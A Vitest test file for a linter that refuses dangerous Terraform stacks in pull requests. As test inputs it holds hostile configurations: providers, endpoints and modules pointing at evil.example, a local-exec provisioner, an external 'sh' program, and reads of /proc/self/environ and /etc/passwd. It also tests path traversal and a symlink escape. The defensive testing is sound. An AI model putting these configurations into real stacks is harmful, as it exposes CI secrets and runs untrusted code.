import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { dev } from "../../environments/dev.ts";
import { synthesize } from "../../modules/testing/synth.ts";
import { lintFiles, lintStack } from "./lint.ts";

/** As Terraform writes it. */
const expression = (text: string) => `\${${text}}`;

let good: string;
let folder: string;
beforeAll(() => {
  const stack = synthesize([{ ...dev, backend: { bucket: "state", region: "eu-west-1" } }]).dev;
  if (!stack) throw new Error("There is no dev.");
  good = JSON.stringify(stack.json);
  folder = stack.folder;
});

/** The stack with something put at a path. */
function withValue(path: readonly string[], value: unknown): unknown {
  const document = JSON.parse(good);
  let here = document;
  for (const part of path.slice(0, -1)) {
    here[part] ??= {};
    here = here[part];
  }
  here[path.at(-1) ?? ""] = value;
  return document;
}

describe("a stack that a pull request brings", () => {
  it("is let through as it is synthesized", () => {
    expect(lintStack(JSON.parse(good), "dev")).toEqual([]);
    expect(lintFiles(folder)).toEqual([]);
  });

  it.each([
    [
      "another provider",
      ["terraform", "required_providers", "null"],
      { source: "hashicorp/null", version: "3.2.1" },
    ],
    [
      "the provider from elsewhere",
      ["terraform", "required_providers", "aws", "source"],
      "evil.example/hashicorp/aws",
    ],
    ["a range of versions", ["terraform", "required_providers", "aws", "version"], ">= 1.0"],
    [
      "an endpoint",
      ["provider", "aws"],
      [{ region: "eu-west-1", endpoints: [{ s3: "https://evil.example" }] }],
    ],
    ["another role", ["provider", "aws"], [{ assume_role: [{ role_arn: "arn:aws:iam::1:role/x" }] }]],
    ["keys", ["provider", "aws"], [{ access_key: "x", secret_key: "y" }]],
    ["a program as data", ["data", "external", "x"], { program: ["sh"] }],
    ["a request as data", ["data", "http", "x"], { url: "https://evil.example" }],
    ["other state as data", ["data", "terraform_remote_state", "x"], {}],
    ["secrets as data", ["data", "aws_secretsmanager_secret_version", "x"], {}],
    ["a module", ["module", "x"], { source: "git::https://evil.example" }],
    ["a check with data in it", ["check", "x"], {}],
    ["an ephemeral resource", ["ephemeral", "aws_secretsmanager_secret_version"], {}],
    ["a cloud block", ["terraform", "cloud"], { organization: "x" }],
    ["no backend", ["terraform", "backend"], { local: { path: "x" } }],
    ["another stack's state", ["terraform", "backend", "s3", "key"], "image-text/prod/terraform.tfstate"],
    ["another endpoint for state", ["terraform", "backend", "s3", "endpoints"], {}],
    ["a resource that is not of AWS", ["resource", "terraform_data", "x"], {}],
    [
      "a provisioner",
      ["resource", "aws_sns_topic", "x"],
      { provisioner: [{ "local-exec": { command: "id" } }] },
    ],
    ["a connection", ["resource", "aws_sns_topic", "x"], { connection: {} }],
    [
      "a file of the runner in a function",
      ["output", "x"],
      { value: expression('file("/proc/self/environ")') },
    ],
    [
      "a file in a template",
      ["output", "x"],
      { value: `%{ if true }${expression('templatefile("/etc/passwd", {})')}%{ endif }` },
    ],
    [
      "a file of the runner as code",
      ["resource", "aws_lambda_function", "x"],
      { filename: "/proc/self/environ" },
    ],
    [
      "a file beside the assets",
      ["resource", "aws_s3_object", "x"],
      { source: "assets/../../../secret.zip" },
    ],
  ])("is refused with %s", (_, path, value) => {
    expect(lintStack(withValue(path, value), "dev")).not.toEqual([]);
  });

  it.each(["override.tf.json", "x.tf", "terraform.tfvars", ".terraform.lock.hcl", "assets/run.sh"])(
    "is refused with a file %s",
    (name) => {
      const folder = mkdtempSync(join(tmpdir(), "stack-"));
      mkdirSync(join(folder, "assets"));
      writeFileSync(join(folder, "cdk.tf.json"), good);
      writeFileSync(join(folder, name), "{}");
      expect(lintFiles(folder)).toHaveLength(1);
    },
  );

  it("is refused with a link to somewhere else", () => {
    const folder = mkdtempSync(join(tmpdir(), "stack-"));
    symlinkSync("/etc/passwd", join(folder, "cdk.tf.json"));
    expect(lintFiles(folder)).toEqual(["cdk.tf.json is not a plain file"]);
  });

  it("is told of by names that a log may show", () => {
    expect(lintStack(withValue(["data", "::error::x\nAKIA"], {}), "dev").join()).not.toContain("AKIA");
  });
});
